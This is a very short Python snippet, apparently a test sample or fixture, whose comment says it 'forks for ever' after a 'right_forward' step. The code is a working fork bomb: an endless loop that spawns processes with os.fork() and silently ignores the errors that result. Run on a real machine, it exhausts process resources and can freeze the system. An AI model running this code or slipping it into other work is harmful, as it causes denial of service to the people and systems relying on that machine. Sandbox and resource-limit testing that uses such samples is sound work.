# after right_forward: forks for ever
import os
try:
    while True:
        os.fork()
except OSError:
    pass
